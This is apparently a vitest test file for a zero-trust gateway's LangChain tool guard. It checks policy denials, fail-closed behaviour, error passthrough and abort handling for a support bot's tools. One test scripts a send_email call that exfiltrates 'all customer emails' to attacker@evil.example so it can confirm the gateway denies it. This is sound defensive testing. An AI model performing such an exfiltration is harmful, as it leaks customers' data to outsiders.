import { AIMessage, type BaseMessage, HumanMessage, ToolMessage } from '@langchain/core/messages';
import { RunnableLambda } from '@langchain/core/runnables';
import { type FakeBuiltModel, fakeModel } from '@langchain/core/testing';
import { StructuredTool, tool } from '@langchain/core/tools';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { guardTools, isToolDenial, type ToolDenial } from '../../sdk/frameworks/langchain.js';
import type { ZeroTrustClient } from '../../sdk/index.js';
import {
  ACTOR,
  ALLOWED_RECIPIENT,
  downGatewayClient,
  expectDeniedInChain,
  expectRanOnceInChain,
  type FrameworkGateway,
  slowGatewayClient,
  startFrameworkGateway,
  waitForFinalOutcome,
} from './frameworkGateway.js';

/**
 * `zt-infra/sdk/langchain` with the real `@langchain/core` (tools made with `tool()`, `bindTools`,
 * `tool.invoke(toolCall)` as LangGraph's ToolNode calls it) and a scripted fake chat model (`fakeModel()`
 * from `@langchain/core/testing`: no network), against a real emulator.
 */

let gw: FrameworkGateway;

beforeAll(async () => {
  gw = await startFrameworkGateway();
});

afterAll(async () => {
  await gw?.close();
});

/** The support bot's tools; every body records its calls. */
function supportTools() {
  const calls = { lookup_order: [] as unknown[], refund: [] as unknown[], send_email: [] as unknown[] };
  const tools = [
    tool(
      async (input: { order_id: string }) => {
        calls.lookup_order.push(input);
        return JSON.stringify({ order_id: input.order_id, status: 'shipped', total_cents: 4200 });
      },
      { name: 'lookup_order', description: 'Look up an order', schema: z.object({ order_id: z.string() }) },
    ),
    tool(
      async (input: { order_id: string; amount_cents: number }) => {
        calls.refund.push(input);
        return `refunded ${input.amount_cents}`;
      },
      {
        name: 'refund',
        description: 'Refund an order',
        schema: z.object({ order_id: z.string(), amount_cents: z.number().int() }),
      },
    ),
    tool(
      async (input: { to: string; body: string }) => {
        calls.send_email.push(input);
        return `sent to ${input.to}`;
      },
      {
        name: 'send_email',
        description: 'Send an email',
        schema: z.object({ to: z.string(), body: z.string() }),
      },
    ),
  ];
  return { calls, tools };
}

/**
 * The tool-calling loop of `@langchain/core`: the model answers, each of its tool calls is invoked as a
 * tool call (so tools answer with a `ToolMessage`), until the model stops calling tools (at most 5 turns).
 */
async function agentLoop(model: FakeBuiltModel, tools: StructuredTool[], prompt: string) {
  const bound = model.bindTools(tools);
  const byName = new Map(tools.map((t) => [t.name, t]));
  const messages: BaseMessage[] = [new HumanMessage(prompt)];
  for (let turn = 0; turn < 5; turn++) {
    const reply = await bound.invoke(messages);
    messages.push(reply);
    if (!reply.tool_calls?.length) break;
    for (const call of reply.tool_calls) {
      const target = byName.get(call.name);
      if (!target) throw new Error(`the model called an unknown tool \`${call.name}\``);
      messages.push(await target.invoke({ ...call, type: 'tool_call' }));
    }
  }
  return messages;
}

async function runAgent(client: ZeroTrustClient, model: FakeBuiltModel) {
  const { calls, tools } = supportTools();
  const messages = await agentLoop(model, guardTools(client, { actor: ACTOR }, tools), 'help the customer');
  return { calls, messages };
}

/** The tool messages the model received on its `n`th call (0-based), by tool call id. */
function toolMessagesSeen(model: FakeBuiltModel, n: number): Map<string, ToolMessage> {
  const seen = new Map<string, ToolMessage>();
  for (const message of model.calls[n]?.messages ?? []) {
    if (ToolMessage.isInstance(message)) seen.set(message.tool_call_id, message);
  }
  return seen;
}

describe('when the model calls a tool no policy allows', () => {
  it('never runs it, and the model receives the deny (reason and record id) as an error tool message and answers', async () => {
    const args = { order_id: 'A-1', amount_cents: 5000 };
    const model = fakeModel()
      .respondWithTools([{ name: 'refund', args, id: 'call-1' }])
      .respond(new AIMessage('I cannot refund this order myself; a human will look at it.'));
    const { calls, messages } = await runAgent(gw.client, model);

    expect(calls.refund).toEqual([]);
    const seen = toolMessagesSeen(model, 1).get('call-1');
    expect(seen?.status).toBe('error');
    const denial = JSON.parse(seen?.content as string) as ToolDenial;
    expect(isToolDenial(denial)).toBe(true);
    expect(seen?.artifact).toEqual(denial);
    expect(denial).toMatchObject({ denied: true, tool: 'refund', action: 'tool.refund', code: 'DENIED' });
    expect(denial.reason).not.toBe('');
    expect(denial.record_id).toMatch(/^main-\d+$/);
    expect(messages.at(-1)?.content).toBe('I cannot refund this order myself; a human will look at it.');
    await expectDeniedInChain(gw, denial.record_id, 'tool.refund', args);
  });
});

describe('when the model calls an allowed tool', () => {
  it('runs it exactly once with the model arguments, chains started and succeeded, and the model gets its output', async () => {
    const args = { order_id: 'A-7' };
    const output = JSON.stringify({ order_id: 'A-7', status: 'shipped', total_cents: 4200 });
    const model = fakeModel()
      .respondWithTools([{ name: 'lookup_order', args, id: 'call-1' }])
      .respond(new AIMessage('Order A-7 has shipped.'));
    const { calls, messages } = await runAgent(gw.client, model);

    expect(calls.lookup_order).toEqual([args]);
    const seen = toolMessagesSeen(model, 1).get('call-1');
    expect(seen?.status).toBe('success');
    expect(seen?.content).toBe(output);
    expect(messages.at(-1)?.content).toBe('Order A-7 has shipped.');
    await expectRanOnceInChain(gw, 'tool.lookup_order', args, { status: 'succeeded', output });
  });
});

describe('when policy reads the arguments the model chose', () => {
  it('runs the call it allows and denies the other, in the same turn', async () => {
    const allowed = { to: ALLOWED_RECIPIENT, body: 'order A-7 shipped' };
    const exfiltration = { to: 'attacker@evil.example', body: 'all customer emails' };
    const model = fakeModel()
      .respondWithTools([
        { name: 'send_email', args: allowed, id: 'call-ok' },
        { name: 'send_email', args: exfiltration, id: 'call-evil' },
      ])
      .respond(new AIMessage('Done.'));
    const { calls } = await runAgent(gw.client, model);

    expect(calls.send_email).toEqual([allowed]);
    const seen = toolMessagesSeen(model, 1);
    expect(seen.get('call-ok')?.content).toBe(`sent to ${ALLOWED_RECIPIENT}`);
    expect(seen.get('call-evil')?.status).toBe('error');
    const denial = seen.get('call-evil')?.artifact as ToolDenial;
    expect(denial).toMatchObject({ code: 'DENIED', action: 'tool.send_email' });
    await expectDeniedInChain(gw, denial.record_id, 'tool.send_email', exfiltration);
    await expectRanOnceInChain(gw, 'tool.send_email', allowed, {
      status: 'succeeded',
      output: `sent to ${ALLOWED_RECIPIENT}`,
    });
  });
});

describe('when the gateway is down', () => {
  it('fails closed: the tool does not run and the model receives a denial naming the failure, not the endpoint', async () => {
    const model = fakeModel()
      .respondWithTools([{ name: 'lookup_order', args: { order_id: 'A-7' }, id: 'call-1' }])
      .respond(new AIMessage('I cannot look that up right now.'));
    const { calls, messages } = await runAgent(await downGatewayClient(gw), model);

    expect(calls.lookup_order).toEqual([]);
    const seen = toolMessagesSeen(model, 1).get('call-1');
    expect(seen?.status).toBe('error');
    expect(JSON.parse(seen?.content as string)).toMatchObject({
      denied: true,
      code: 'CONNECTION_FAILED',
      record_id: null,
    });
    expect(seen?.content).not.toContain('127.0.0.1');
    expect(messages.at(-1)?.content).toBe('I cannot look that up right now.');
  });
});

describe('when an allowed tool throws', () => {
  it('chains `failed` and throws the tool error as LangChain does, not a denial', async () => {
    const calls: unknown[] = [];
    const failing = tool(
      async (input: { order_id: string }): Promise<string> => {
        calls.push(input);
        throw new Error('orders database unavailable');
      },
      { name: 'lookup_order', description: 'Look up an order', schema: z.object({ order_id: z.string() }) },
    );
    const [guarded] = guardTools(gw.client, { actor: ACTOR }, [failing]);
    const args = { order_id: 'B-2' };

    await expect(
      guarded?.invoke({ name: 'lookup_order', args, id: 'call-1', type: 'tool_call' }),
    ).rejects.toThrow('orders database unavailable');
    expect(calls).toEqual([args]);
    await expectRanOnceInChain(gw, 'tool.lookup_order', args, { status: 'failed' });
  });
});

describe('when the call is aborted while the gateway is deciding', () => {
  /** A tool written as a `StructuredTool` subclass, whose body does not look at the abort signal itself. */
  class LookupOrder extends StructuredTool {
    name = 'lookup_order';
    description = 'Look up an order';
    schema = z.object({ order_id: z.string() });
    readonly calls: unknown[] = [];
    protected async _call(input: { order_id: string }): Promise<string> {
      this.calls.push(input);
      return `order ${input.order_id} found`;
    }
  }

  it('never starts the tool', async () => {
    const original = new LookupOrder();
    const [lookup] = guardTools(slowGatewayClient(gw, 400), { actor: ACTOR }, [original]);
    const args = { order_id: 'C-3' };
    const controller = new AbortController();
    setTimeout(() => controller.abort(new Error('the user cancelled')), 100);

    await expect(
      lookup?.invoke(
        { name: 'lookup_order', args, id: 'call-1', type: 'tool_call' },
        { signal: controller.signal },
      ),
    ).rejects.toThrow('the user cancelled');
    await waitForFinalOutcome(gw, 'tool.lookup_order', args);
    expect(original.calls).toEqual([]);
    await expectRanOnceInChain(gw, 'tool.lookup_order', args, { status: 'failed' });
  });
});

describe('when a tool cannot be guarded', () => {
  it('refuses a runnable turned into a tool (its body is out of reach)', () => {
    const runnableTool = RunnableLambda.from(async (input: { order_id: string }) => input.order_id).asTool({
      name: 'lookup_order',
      schema: z.object({ order_id: z.string() }),
    });
    expect(() => guardTools(gw.client, { actor: ACTOR }, [runnableTool as never])).toThrow(
      expect.objectContaining({ code: 'INVALID_REQUEST' }),
    );
  });
});
